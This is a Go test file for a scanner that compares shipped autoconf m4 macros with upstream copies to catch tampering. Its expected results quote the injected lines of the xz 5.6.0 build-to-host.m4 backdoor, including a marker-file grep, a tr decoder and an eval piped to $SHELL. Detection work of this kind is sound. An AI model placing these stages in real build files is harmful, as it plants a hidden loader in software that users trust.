package m4

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/vouchdev/vouch/extract"
	"github.com/vouchdev/vouch/finding"
)

func readFile(t testing.TB, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// testReference loads testdata/reference plus extra files written to a
// temporary directory (name → content).
func testReference(t testing.TB, extra map[string]string) *Reference {
	t.Helper()
	dirs := []string{filepath.Join("testdata", "reference")}
	if len(extra) > 0 {
		dir := t.TempDir()
		for name, content := range extra {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		dirs = append(dirs, dir)
	}
	r, err := LoadReference(context.Background(), dirs...)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// edit replaces old by new in s once, failing when old is absent, so that
// a variant of a fixture says exactly what it changes.
func edit(t testing.TB, s, old, new string) string {
	t.Helper()
	if !strings.Contains(s, old) {
		t.Fatalf("edit: %q not found", old)
	}
	return strings.Replace(s, old, new, 1)
}

func TestSerial(t *testing.T) {
	tests := []struct {
		name, data string
		want       string
		wantOK     bool
	}{
		{"hash space", "# serial 3\n", "3", true},
		{"hash no space", "#serial 3\n", "3", true},
		{"dnl", "dnl serial 11\nAC_DEFUN([X], [])\n", "11", true},
		{"gettext style", "# gettext.m4 serial 71 (gettext-0.20.2)\ndnl Copyright (C) 1995-2014\n", "71", true},
		{"gnulib style", "# build-to-host.m4 serial 30\n", "30", true},
		{"libtool trailing name", "# serial 59 LT_INIT\n", "59", true},
		{"libtool file name", "# serial 8 ltoptions.m4\n", "8", true},
		{"second line", "# pkg.m4 - Macros to locate and use pkg-config.   -*- Autoconf -*-\n# serial 12 (pkg-config-0.29.2)\n", "12", true},
		{"dotted", "# serial 12.1\n", "12.1", true},
		{"trailing dot", "# serial 4.\n", "4", true},
		{"indented", "   #   serial   5\n", "5", true},
		{"crlf", "# serial 4\r\nAC_DEFUN([X], [])\r\n", "4", true},
		{"after m4_define before AC_DEFUN", "m4_define([_LT_COPYING], [x])\n# serial 59 LT_INIT\nAC_DEFUN([LT_INIT], [])\n", "59", true},
		{"first of two", "# serial 2\n# serial 9\n", "2", true},
		{"none", "dnl Copyright (C) 2023\nAC_DEFUN([X], [])\n", "", false},
		{"empty", "", "", false},
		{"prose", "# The serial number must appear first.\n", "", false},
		{"word", "# serial abc\n", "", false},
		{"glued", "# serial 8ltoptions.m4\n", "", false},
		{"too deep in comment", "# a b serial 3\n", "", false},
		{"after AC_DEFUN", "AC_DEFUN([X], [])\n# serial 9\n", "", false},
		{"in code", "echo serial 3\n", "", false},
		{"too long", "# serial " + strings.Repeat("1", 65) + "\n", "", false},
		{"double dot", "# serial 1..2\n", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := Serial([]byte(tt.data))
			if got != tt.want || ok != tt.wantOK {
				t.Errorf("Serial(%q) = %q, %v; want %q, %v", tt.data, got, ok, tt.want, tt.wantOK)
			}
		})
	}
}

func TestCompareSerial(t *testing.T) {
	tests := []struct {
		a, b string
		want int
	}{
		{"3", "30", -1},
		{"30", "3", 1},
		{"9", "10", -1},
		{"12.1", "12", 1},
		{"12.1", "12.10", -1},
		{"1", "1.0", -1},
		{"007", "7", 0},
		{"", "1", -1},
		{"", "", 0},
		{"4245", "4245", 0},
		{"100000000000000000000000", "99999999999999999999999", 1},
		{"2.x", "2.0", 0},
	}
	for _, tt := range tests {
		if got := CompareSerial(tt.a, tt.b); got != tt.want {
			t.Errorf("CompareSerial(%q, %q) = %d, want %d", tt.a, tt.b, got, tt.want)
		}
	}
}

func TestCheck(t *testing.T) {
	upstream := string(readFile(t, "testdata/reference/build-to-host.m4"))
	backdoored := string(readFile(t, "testdata/shipped/build-to-host-backdoored.m4"))
	amversion := string(readFile(t, "testdata/reference/amversion.m4"))
	const refPath = "testdata/reference/build-to-host.m4"
	up := []string{"3"}

	tests := []struct {
		name  string
		file  string
		data  string
		extra map[string]string // more upstream files
		want  Check
	}{
		{
			name: "matches",
			file: "build-to-host.m4",
			data: upstream,
			want: Check{Name: "build-to-host.m4", Serial: "3", Status: Matches, Upstream: up,
				Closest: "3", ClosestPath: refPath, Severity: finding.Low},
		},
		{
			name: "matches with other comments and spacing",
			file: "build-to-host.m4",
			data: edit(t, edit(t, edit(t, upstream,
				"Copyright (C) 2023 ", "Copyright (C) 2023-2024 "),
				"dnl Written by Bruno Haible.\n", "dnl Written by Bruno Haible.\n\n# Local comment.\n\n"),
				"  AC_REQUIRE([AC_CANONICAL_BUILD])", "\tAC_REQUIRE([AC_CANONICAL_BUILD])   "),
			want: Check{Name: "build-to-host.m4", Serial: "3", Status: Matches, Upstream: up,
				Closest: "3", ClosestPath: refPath, Severity: finding.Low},
		},
		{
			name: "crlf",
			file: "build-to-host.m4",
			data: strings.ReplaceAll(upstream, "\n", "\r\n"),
			want: Check{Name: "build-to-host.m4", Serial: "3", Status: Matches, Upstream: up,
				Closest: "3", ClosestPath: refPath, Severity: finding.Low},
		},
		{
			name: "unknown serial with added code (xz 5.6.0)",
			file: "build-to-host.m4",
			data: backdoored,
			want: Check{Name: "build-to-host.m4", Serial: "30", Status: UnknownSerial, Upstream: up,
				Closest: "3", ClosestPath: refPath,
				Added: []Line{
					{40, "gl_[$1]_prefix=`echo $gl_am_configmake | sed \"s/.*\\.//g\"`"},
					{62, `if test "x$gl_am_configmake" != "x"; then`},
					{63, `gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'`},
					{64, "else"},
					{65, "gl_[$1]_config=''"},
					{66, "fi"},
					{67, "_LT_TAGDECL([], [gl_path_map], [2])dnl"},
					{68, "_LT_TAGDECL([], [gl_[$1]_prefix], [2])dnl"},
					{69, "_LT_TAGDECL([], [gl_am_configmake], [2])dnl"},
					{70, "_LT_TAGDECL([], [[$1]_c_make], [2])dnl"},
					{71, "_LT_TAGDECL([], [gl_[$1]_config], [2])dnl"},
					{75, `AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \$gl_[$1]_config"])`},
					{83, "gl_am_configmake=`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`"},
					{84, `if test -n "$gl_am_configmake"; then`},
					{85, "HAVE_PKG_CONFIGMAKE=1"},
					{86, "else"},
					{87, "HAVE_PKG_CONFIGMAKE=0"},
					{88, "fi"},
					{92, `gl_path_map='tr "\t \-_" " \t_\-"'`},
				},
				AddedCount: 19, Severity: finding.High,
				Summary: "build-to-host.m4 serial 30 is higher than any upstream serial (3); 19 lines added, 0 removed against upstream serial 3"},
		},
		{
			name: "serial bumped without code change",
			file: "build-to-host.m4",
			data: edit(t, upstream, "serial 3", "serial 4"),
			want: Check{Name: "build-to-host.m4", Serial: "4", Status: UnknownSerial, Upstream: up,
				Closest: "3", ClosestPath: refPath, Severity: finding.Medium,
				Summary: "build-to-host.m4 serial 4 is higher than any upstream serial (3); 0 lines added, 0 removed against upstream serial 3"},
		},
		{
			name: "serial between upstream ones",
			file: "build-to-host.m4",
			data: edit(t, upstream, "serial 3", "serial 4"),
			extra: map[string]string{"build-to-host.m4": edit(t, edit(t, upstream, "serial 3", "serial 5"),
				"AC_SUBST([$1_c])\n", "AC_SUBST([$1_c])\n  AC_SUBST([gl_tab])\n")},
			want: Check{Name: "build-to-host.m4", Serial: "4", Status: UnknownSerial, Upstream: []string{"3", "5"},
				Closest: "3", ClosestPath: refPath, Severity: finding.Medium,
				Summary: "build-to-host.m4 serial 4 is not an upstream serial (3, 5); 0 lines added, 0 removed against upstream serial 3"},
		},
		{
			name: "body differs with the same serial",
			file: "build-to-host.m4",
			data: edit(t, upstream, "cygpath -w", "cygpath -m"),
			want: Check{Name: "build-to-host.m4", Serial: "3", Status: BodyDiffers, Upstream: up,
				Closest: "3", ClosestPath: refPath,
				Added:      []Line{{45, "gl_final_[$1]=`cygpath -m \"$gl_final_[$1]\"` ;;"}},
				Removed:    []Line{{45, "gl_final_[$1]=`cygpath -w \"$gl_final_[$1]\"` ;;"}},
				AddedCount: 1, RemovedCount: 1, Severity: finding.High,
				Summary: "build-to-host.m4 serial 3 has upstream's serial but different code; 1 lines added, 1 removed against upstream serial 3"},
		},
		{
			name: "body differs by a removed line only (a distribution's patch)",
			file: "build-to-host.m4",
			data: edit(t, upstream, "  AC_SUBST([$1_c])\n", ""),
			want: Check{Name: "build-to-host.m4", Serial: "3", Status: BodyDiffers, Upstream: up,
				Closest: "3", ClosestPath: refPath,
				Removed:      []Line{{52, "AC_SUBST([$1_c])"}},
				RemovedCount: 1, Severity: finding.Low,
				Summary: "build-to-host.m4 serial 3 has upstream's serial but different code; 0 lines added, 1 removed against upstream serial 3"},
		},
		{
			name: "older",
			file: "build-to-host.m4",
			data: edit(t, upstream, "serial 3", "serial 2"),
			want: Check{Name: "build-to-host.m4", Serial: "2", Status: Older, Upstream: up,
				Closest: "3", ClosestPath: refPath, Severity: finding.Low,
				Summary: "build-to-host.m4 serial 2 is older than every upstream copy (3); 0 lines added, 0 removed against upstream serial 3"},
		},
		{
			name: "older with different code stays low",
			file: "build-to-host.m4",
			data: edit(t, edit(t, upstream, "serial 3", "serial 1"), "  AC_SUBST([$1_c])\n", "  AC_SUBST([$1_c])\n  echo hi\n"),
			want: Check{Name: "build-to-host.m4", Serial: "1", Status: Older, Upstream: up,
				Closest: "3", ClosestPath: refPath, Severity: finding.Low,
				Added:      []Line{{53, "echo hi"}},
				AddedCount: 1,
				Summary:    "build-to-host.m4 serial 1 is older than every upstream copy (3); 1 lines added, 0 removed against upstream serial 3"},
		},
		{
			name: "no serial, same code",
			file: "build-to-host.m4",
			data: edit(t, upstream, "# build-to-host.m4 serial 3\n", "# build-to-host.m4\n"),
			want: Check{Name: "build-to-host.m4", Status: Matches, Upstream: up,
				Closest: "3", ClosestPath: refPath, Severity: finding.Low,
				Summary: "build-to-host.m4: same code as upstream serial 3"},
		},
		{
			name: "no serial, added code",
			file: "build-to-host.m4",
			data: edit(t, edit(t, upstream, "# build-to-host.m4 serial 3\n", "# build-to-host.m4\n"),
				"  AC_SUBST([$1_c])\n", "  AC_SUBST([$1_c])\n  eval \"$x\"\n"),
			want: Check{Name: "build-to-host.m4", Status: NoSerial, Upstream: up,
				Closest: "3", ClosestPath: refPath, Severity: finding.Medium,
				Added:      []Line{{53, `eval "$x"`}},
				AddedCount: 1,
				Summary:    "build-to-host.m4 has no serial and differs from every upstream copy; 1 lines added, 0 removed against upstream serial 3"},
		},
		{
			name: "automake file without serial matches",
			file: "amversion.m4",
			data: amversion,
			want: Check{Name: "amversion.m4", Status: Matches, ClosestPath: "testdata/reference/amversion.m4",
				Severity: finding.Low, Summary: "amversion.m4: same code as upstream (no serial)"},
		},
		{
			name: "serial where upstream has none",
			file: "amversion.m4",
			data: "# serial 2\n" + amversion,
			want: Check{Name: "amversion.m4", Serial: "2", Status: UnknownSerial, ClosestPath: "testdata/reference/amversion.m4",
				Severity: finding.Medium,
				Summary:  "amversion.m4 serial 2 has a serial where upstream has none; 0 lines added, 0 removed against the closest upstream copy"},
		},
		{
			name: "not in reference",
			file: "mylib.m4",
			data: "# mylib.m4 serial 1\nAC_DEFUN([MYLIB_CHECK], [echo yes])\n",
			want: Check{Name: "mylib.m4", Serial: "1", Status: NotInReference, Severity: finding.Low,
				Summary: "mylib.m4 serial 1: no upstream copy known"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := testReference(t, tt.extra)
			got := r.Check(tt.file, []byte(tt.data))
			opts := cmp.Options{}
			if tt.want.Summary == "" {
				opts = append(opts, cmpopts.IgnoreFields(Check{}, "Summary"))
			}
			if tt.extra != nil {
				// The second copy lives in a temporary directory.
				opts = append(opts, cmpopts.IgnoreFields(Check{}, "ClosestPath"))
			}
			if diff := cmp.Diff(tt.want, got, opts...); diff != "" {
				t.Errorf("Check mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestCheckNilReference(t *testing.T) {
	var r *Reference
	got := r.Check("x.m4", []byte("# serial 1\n"))
	want := Check{Name: "x.m4", Serial: "1", Status: NotInReference, Severity: finding.Low, Summary: "x.m4 serial 1: no upstream copy known"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestCheckCapsLines(t *testing.T) {
	r := testReference(t, nil)
	var b strings.Builder
	b.WriteString(string(readFile(t, "testdata/shipped/build-to-host-backdoored.m4")))
	for i := range 120 {
		b.WriteString("echo injected" + strings.Repeat("x", i) + "\n")
	}
	got := r.Check("build-to-host.m4", []byte(b.String()))
	if len(got.Added) != 50 || got.AddedCount != 139 || got.Severity != finding.High {
		t.Errorf("got %d added lines of %d, severity %v; want 50 of 139, high", len(got.Added), got.AddedCount, got.Severity)
	}
}

func TestLoadReference(t *testing.T) {
	dir := t.TempDir()
	write := func(name, content string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("a.m4", "# a.m4 serial 2\nAC_DEFUN([A_ONE], [a=1])\n")
	write("internal/b.m4", "# serial 7\nAC_DEFUN([B_ONE], [b=1])\n")
	write("internal/deeper/still/c.m4", "# serial 1\n")
	write("notes.txt", "# serial 1\n")
	write("huge.m4", "# serial 1\n"+strings.Repeat("x", MaxFileSize))
	if err := os.Symlink(filepath.Join(dir, "missing"), filepath.Join(dir, "dangling.m4")); err != nil {
		t.Fatal(err)
	}
	r, err := LoadReference(context.Background(), dir, filepath.Join("testdata", "reference"))
	if err != nil {
		t.Fatal(err)
	}
	type got struct {
		Len     int
		Serials map[string][]string
	}
	g := got{Len: r.Len(), Serials: map[string][]string{}}
	for _, name := range []string{"a.m4", "b.m4", "c.m4", "huge.m4", "dangling.m4", "notes.txt", "build-to-host.m4", "amversion.m4"} {
		if s := r.Serials(name); s != nil || r.files[name] != nil {
			g.Serials[name] = s
		}
	}
	want := got{Len: 5, Serials: map[string][]string{
		"a.m4": {"2"}, "b.m4": {"7"}, "build-to-host.m4": {"3"}, "amversion.m4": nil,
	}}
	if diff := cmp.Diff(want, g); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}

	_, err = LoadReference(context.Background(), dir, filepath.Join(dir, "nope"))
	var xe *extract.Error
	if !errors.As(err, &xe) || xe.Path != filepath.Join(dir, "nope") || !errors.Is(err, os.ErrNotExist) {
		t.Errorf("missing dir: got %v, want *extract.Error naming %s wrapping ErrNotExist", err, filepath.Join(dir, "nope"))
	}

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := LoadReference(ctx, dir); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: got %v, want context.Canceled", err)
	}
}

func TestDefaultDirs(t *testing.T) {
	for _, d := range DefaultDirs() {
		if fi, err := os.Stat(d); err != nil || !fi.IsDir() {
			t.Errorf("DefaultDirs returned %s, which is not a directory", d)
		}
	}
}

// defaultReference loads the machine's macros, skipping when none are
// installed.
func defaultReference(t testing.TB) *Reference {
	t.Helper()
	dirs := DefaultDirs()
	if len(dirs) == 0 {
		t.Skip("no upstream m4 directories on this machine (install autoconf, automake, libtool, gettext, gnulib)")
	}
	r, err := LoadReference(context.Background(), dirs...)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func BenchmarkLoadReference(b *testing.B) {
	dirs := DefaultDirs()
	if len(dirs) == 0 {
		b.Skip("no upstream m4 directories on this machine")
	}
	for b.Loop() {
		r, err := LoadReference(context.Background(), dirs...)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(r.Len()), "files")
	}
}

func TestIdentify(t *testing.T) {
	r := testReference(t, map[string]string{
		"flexmember.m4": "# serial 5\nAC_DEFUN([AC_C_FLEXIBLE_ARRAY_MEMBER], [flex=1])\n",
		"c.m4":          "AC_DEFUN([AC_C_FLEXIBLE_ARRAY_MEMBER], [c=1])\nAC_DEFUN([AC_PROG_CC], [cc])\nAC_DEFUN([AC_C_CONST], [const])\n",
	})
	tests := []struct {
		name string
		seg  Segment
		want string
	}{
		{"header name known", Segment{Name: "cond.m4", Defines: []string{"AM_AUTOMAKE_VERSION"}}, "cond.m4"},
		{"by defines", Segment{Defines: []string{"AM_AUTOMAKE_VERSION", "AM_SET_CURRENT_AUTOMAKE_VERSION"}}, "amversion.m4"},
		{"header name unknown, defines known", Segment{Name: "assert-h.m4", Defines: []string{"AM_CONDITIONAL"}}, "cond.m4"},
		{"tie to the more specific file", Segment{Defines: []string{"AC_C_FLEXIBLE_ARRAY_MEMBER"}}, "flexmember.m4"},
		{"tie to the identical copy", Segment{Data: []byte("AC_DEFUN([AC_C_FLEXIBLE_ARRAY_MEMBER], [c=1])\nAC_DEFUN([AC_PROG_CC], [cc])\nAC_DEFUN([AC_C_CONST], [const])\n"),
			Defines: []string{"AC_C_FLEXIBLE_ARRAY_MEMBER"}}, "c.m4"},
		{"nothing known", Segment{Name: "mine.m4", Defines: []string{"MY_MACRO"}}, "mine.m4"},
		{"nothing at all", Segment{}, ""},
	}
	for _, tt := range tests {
		if got := r.Identify(tt.seg); got != tt.want {
			t.Errorf("%s: Identify = %q, want %q", tt.name, got, tt.want)
		}
	}
}

// segmentView is what the SplitAclocal tests compare.
type segmentView struct {
	Name, Include string
	Line          int
	First         string // first line of Data
	Defines       []string
}

func view(segs []Segment) []segmentView {
	var out []segmentView
	for _, s := range segs {
		first, _, _ := strings.Cut(string(s.Data), "\n")
		out = append(out, segmentView{Name: s.Name, Include: s.Include, Line: s.Line, First: first, Defines: s.Defines})
	}
	return out
}

// joined checks the invariant that segments cover data exactly, in order.
func joined(t testing.TB, data []byte, segs []Segment) {
	t.Helper()
	var b bytes.Buffer
	line := 1
	for i, s := range segs {
		if s.Line != line {
			t.Fatalf("segment %d starts at line %d, want %d", i, s.Line, line)
		}
		b.Write(s.Data)
		line += bytes.Count(s.Data, []byte{'\n'})
	}
	if !bytes.Equal(b.Bytes(), data) {
		t.Fatalf("segments do not add up to the input (%d bytes of %d)", b.Len(), len(data))
	}
}

func TestSplitAclocalExcerpt(t *testing.T) {
	data := readFile(t, "testdata/aclocal-excerpt.m4")
	segs := SplitAclocal(data)
	joined(t, data, segs)
	want := []segmentView{
		{Line: 1, First: "# generated automatically by aclocal 1.16.5 -*- Autoconf -*-"},
		{Line: 23, First: "# Copyright (C) 2002-2021 Free Software Foundation, Inc.",
			Defines: []string{"AM_AUTOMAKE_VERSION", "_AM_AUTOCONF_VERSION", "AM_SET_CURRENT_AUTOMAKE_VERSION"}},
		{Line: 59, First: "# AM_CONDITIONAL                                            -*- Autoconf -*-",
			Defines: []string{"AM_CONDITIONAL", "_AM_COND_VALUE_"}},
		{Name: "gettext.m4", Include: "m4/gettext.m4", Line: 92, First: "m4_include([m4/gettext.m4])"},
		{Name: "host-cpu-c-abi.m4", Include: "m4/host-cpu-c-abi.m4", Line: 93, First: "m4_include([m4/host-cpu-c-abi.m4])"},
		{Name: "iconv.m4", Include: "m4/iconv.m4", Line: 94, First: "m4_include([m4/iconv.m4])"},
	}
	if diff := cmp.Diff(want, view(segs)); diff != "" {
		t.Errorf("SplitAclocal mismatch (-want +got):\n%s", diff)
	}

	r := testReference(t, nil)
	var checks []Check
	for _, s := range r.Segments(data) {
		if s.Line == 1 || s.Include != "" {
			continue
		}
		checks = append(checks, r.CheckSegment(s))
	}
	wantChecks := []Check{
		{Name: "amversion.m4", Status: Matches, ClosestPath: "testdata/reference/amversion.m4", Severity: finding.Low,
			Summary: "amversion.m4: same code as upstream (no serial)"},
		{Name: "cond.m4", Status: Matches, ClosestPath: "testdata/reference/cond.m4", Severity: finding.Low,
			Summary: "cond.m4: same code as upstream (no serial)"},
	}
	if diff := cmp.Diff(wantChecks, checks); diff != "" {
		t.Errorf("CheckSegment mismatch (-want +got):\n%s", diff)
	}
}

func TestSplitAclocalShapes(t *testing.T) {
	tests := []struct {
		name string
		data string
		want []segmentView
	}{
		{
			name: "gnulib headers",
			data: "# a.m4 serial 1\nAC_DEFUN([A], [a])\n\n# b.m4 serial 2\ndnl Copyright (C) 2023 FSF\nAC_DEFUN([B], [b])\n\n",
			want: []segmentView{
				{Name: "a.m4", Line: 1, First: "# a.m4 serial 1", Defines: []string{"A"}},
				{Name: "b.m4", Line: 4, First: "# b.m4 serial 2", Defines: []string{"B"}},
			},
		},
		{
			name: "libtool serial after m4_define stays in the file",
			data: "# libtool.m4 - Configure libtool for the host system. -*-Autoconf-*-\n#\n#   Copyright (C) 1996-2001\n\nm4_define([_LT_COPYING], [dnl\n#   Copyright (C) 1996\n])\n\n# serial 59 LT_INIT\n\nAC_DEFUN([LT_INIT], [x])\n\n",
			want: []segmentView{
				{Name: "libtool.m4", Line: 1, First: "# libtool.m4 - Configure libtool for the host system. -*-Autoconf-*-",
					Defines: []string{"_LT_COPYING", "LT_INIT"}},
			},
		},
		{
			name: "copyright inside an open quote is not a header",
			data: "# std-gnu11.m4 -*- coding: utf-8 -*-\n\nm4_version_prereq([2.70], [], [\n\n# Copyright (C) 2001-2023 Free Software Foundation, Inc.\nAC_DEFUN([X], [x])\n])\n\n# Copyright (C) 2020 Someone\nAC_DEFUN([Y], [y])\n",
			want: []segmentView{
				{Name: "std-gnu11.m4", Line: 1, First: "# std-gnu11.m4 -*- coding: utf-8 -*-", Defines: []string{"X"}},
				{Line: 9, First: "# Copyright (C) 2020 Someone", Defines: []string{"Y"}},
			},
		},
		{
			name: "stub file without code followed by another file",
			data: "# ulonglong.m4 serial 10\ndnl Copyright (C) 1999-2023 FSF\n\n# uname.m4 serial 11\nAC_DEFUN([gl_UNAME], [u])\n",
			want: []segmentView{
				{Name: "ulonglong.m4", Line: 1, First: "# ulonglong.m4 serial 10"},
				{Name: "uname.m4", Line: 4, First: "# uname.m4 serial 11", Defines: []string{"gl_UNAME"}},
			},
		},
		{
			name: "brackets in changequote do not open quotes",
			data: "# a.m4 -*- Autoconf -*-\nAC_DEFUN([A], [\nchangequote(,)dnl\n  x='[ \"&'\nchangequote([,])dnl\n])\n\n# Copyright (C) 2001 FSF\nAC_DEFUN([B], [b])\n",
			want: []segmentView{
				{Name: "a.m4", Line: 1, First: "# a.m4 -*- Autoconf -*-", Defines: []string{"A"}},
				{Line: 8, First: "# Copyright (C) 2001 FSF", Defines: []string{"B"}},
			},
		},
		{
			name: "headerless file stays glued",
			data: "# a.m4 serial 1\nAC_DEFUN([A], [a])\n\ndnl Check for expat.\nAC_DEFUN([EXPAT], [e])\n",
			want: []segmentView{
				{Name: "a.m4", Line: 1, First: "# a.m4 serial 1", Defines: []string{"A", "EXPAT"}},
			},
		},
		{
			name: "crlf and no final newline",
			data: "# a.m4 serial 1\r\nAC_DEFUN([A], [a])\r\n\r\n# b.m4 serial 1\r\nAC_DEFUN([B], [b])",
			want: []segmentView{
				{Name: "a.m4", Line: 1, First: "# a.m4 serial 1\r", Defines: []string{"A"}},
				{Name: "b.m4", Line: 4, First: "# b.m4 serial 1\r", Defines: []string{"B"}},
			},
		},
		{
			name: "include inside a quote is text",
			data: "AC_DEFUN([A], [\nm4_include([m4/x.m4])\n])\nm4_include([m4/y.m4]) dnl\nsinclude([m4/z.m4])\nm4_include([m4/bad.m4]) junk\n",
			want: []segmentView{
				{Line: 1, First: "AC_DEFUN([A], [", Defines: []string{"A"}},
				{Name: "y.m4", Include: "m4/y.m4", Line: 4, First: "m4_include([m4/y.m4]) dnl"},
				{Name: "z.m4", Include: "m4/z.m4", Line: 5, First: "sinclude([m4/z.m4])"},
				{Line: 6, First: "m4_include([m4/bad.m4]) junk"},
			},
		},
		{
			name: "empty",
			data: "",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			segs := SplitAclocal([]byte(tt.data))
			joined(t, []byte(tt.data), segs)
			if diff := cmp.Diff(tt.want, view(segs)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestSegmentsCutsGluedFiles(t *testing.T) {
	r := testReference(t, nil)
	cond := string(readFile(t, "testdata/reference/cond.m4"))
	var kept []string
	for _, l := range strings.SplitAfter(cond, "\n") {
		if !strings.HasPrefix(l, "##") {
			kept = append(kept, l)
		}
	}
	// An aclocal.m4 body: cond.m4 as aclocal pastes it, then a system
	// file with no recognisable header (expat.m4 starts like this).
	data := []byte(strings.Join(kept, "") + "\n" +
		"dnl Check if --with-expat[=PREFIX] is specified and\ndnl Expat >= 1.95.0 is installed.\n\nAC_DEFUN([APR_FIND_EXPAT], [expat=yes])\n\n")
	if n := len(SplitAclocal(data)); n != 1 {
		t.Fatalf("SplitAclocal gave %d segments, want the glued 1", n)
	}
	segs := r.Segments(data)
	joined(t, data, segs)
	want := []segmentView{
		{Line: 1, First: "# AM_CONDITIONAL                                            -*- Autoconf -*-", Defines: []string{"AM_CONDITIONAL", "_AM_COND_VALUE_"}},
		{Line: 34, First: "dnl Check if --with-expat[=PREFIX] is specified and", Defines: []string{"APR_FIND_EXPAT"}},
	}
	if diff := cmp.Diff(want, view(segs)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if c := r.CheckSegment(segs[0]); c.Status != Matches || c.Name != "cond.m4" {
		t.Errorf("first segment: %s %s (%s), want cond.m4 matches", c.Name, c.Status, c.Summary)
	}
	if c := r.CheckSegment(segs[1]); c.Status != NotInReference {
		t.Errorf("second segment: %s (%s), want not-in-reference", c.Status, c.Summary)
	}
}

func TestCheckSegmentLineNumbers(t *testing.T) {
	r := testReference(t, nil)
	backdoored := readFile(t, "testdata/shipped/build-to-host-backdoored.m4")
	data := append([]byte("# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n\nm4_ifndef([AC_AUTOCONF_VERSION], [])dnl\n\n"), backdoored...)
	segs := r.Segments(data)
	if len(segs) != 2 {
		t.Fatalf("got %d segments, want 2: %+v", len(segs), view(segs))
	}
	c := r.CheckSegment(segs[1])
	if c.Status != UnknownSerial || c.Severity != finding.High || len(c.Added) == 0 {
		t.Fatalf("got %s %v, want unknown-serial high", c.Status, c.Severity)
	}
	// Line 40 of the file is line 44 of this aclocal.m4.
	want := Line{N: 44, Text: "gl_[$1]_prefix=`echo $gl_am_configmake | sed \"s/.*\\.//g\"`"}
	if diff := cmp.Diff(want, c.Added[0]); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	inc := r.CheckSegment(Segment{Name: "x.m4", Include: "m4/x.m4", Line: 3})
	if inc.Status != NotInReference || inc.Severity != finding.Low {
		t.Errorf("include segment: got %s %v", inc.Status, inc.Severity)
	}
}

// explained projects attributions to line → macros.
func explained(as []Attribution) map[int][]string {
	out := map[int][]string{}
	for _, a := range as {
		out[a.Line] = a.Macros
	}
	return out
}

func TestExplain(t *testing.T) {
	r := testReference(t, nil)
	backdooredConf := readFile(t, "testdata/configure-backdoored.txt")
	cleanConf := readFile(t, "testdata/configure-clean.txt")
	backdoored := readFile(t, "testdata/shipped/build-to-host-backdoored.m4")
	up := []string{"build-to-host.m4"}
	shipped := []string{"m4/build-to-host.m4"}
	both := []string{"build-to-host.m4", "m4/build-to-host.m4"}
	var none []string

	tests := []struct {
		name       string
		configure  []byte
		candidates []int
		extra      map[string][]byte
		want       map[int][]string
	}{
		{
			name:      "backdoored configure, shipped macro given",
			configure: backdooredConf,
			extra:     map[string][]byte{"m4/build-to-host.m4": backdoored},
			want: map[int][]string{
				6: shipped, 7: shipped, 8: shipped, 10: shipped,
				13: both, 14: both, 15: shipped, 16: both, 17: both, 18: both, 19: both, 20: both,
				23: both, 24: shipped, 25: both, 26: both, 27: both, 28: both, 29: both,
				33: both, 34: both, 36: both, 37: both, 38: both,
				40: shipped, 41: shipped, 43: shipped, 46: shipped,
				47: none, 48: none, 51: shipped,
			},
		},
		{
			name:      "backdoored configure, upstream macros only",
			configure: backdooredConf,
			want: map[int][]string{
				6: none, 7: none, 8: none, 10: none,
				13: up, 14: up, 15: none, 16: up, 17: up, 18: up, 19: up, 20: up,
				23: up, 24: none, 25: up, 26: up, 27: up, 28: up, 29: up,
				33: up, 34: up, 36: up, 37: up, 38: up,
				40: none, 41: none, 43: none, 46: none,
				47: none, 48: none, 51: none,
			},
		},
		{
			name:      "clean configure",
			configure: cleanConf,
			want: map[int][]string{
				6: up, 7: up, 8: up, 9: up, 10: up, 11: up, 12: up,
				15: up, 16: up, 17: up, 18: up, 19: up, 20: up,
				24: up, 25: up, 27: up, 28: up, 29: up,
				32: none, // AC_CONFIG_FILES comes from autoconf, not in this reference
			},
		},
		{
			name:       "candidates only",
			configure:  backdooredConf,
			candidates: []int{15, 6, 13, 9, 15, 0, -3, 1000},
			want:       map[int][]string{6: none, 13: up, 15: none},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := r.Explain(tt.configure, tt.candidates, tt.extra)
			if diff := cmp.Diff(tt.want, explained(got), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("Explain mismatch (-want +got):\n%s", diff)
			}
		})
	}

	got := r.Explain(backdooredConf, []int{51}, nil)
	want := []Attribution{{Line: 51, Text: `"build-to-host":C) eval $gl_config_gt | $SHELL 2>/dev/null ;;`}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("text mismatch (-want +got):\n%s", diff)
	}
}

func TestExplainPrecision(t *testing.T) {
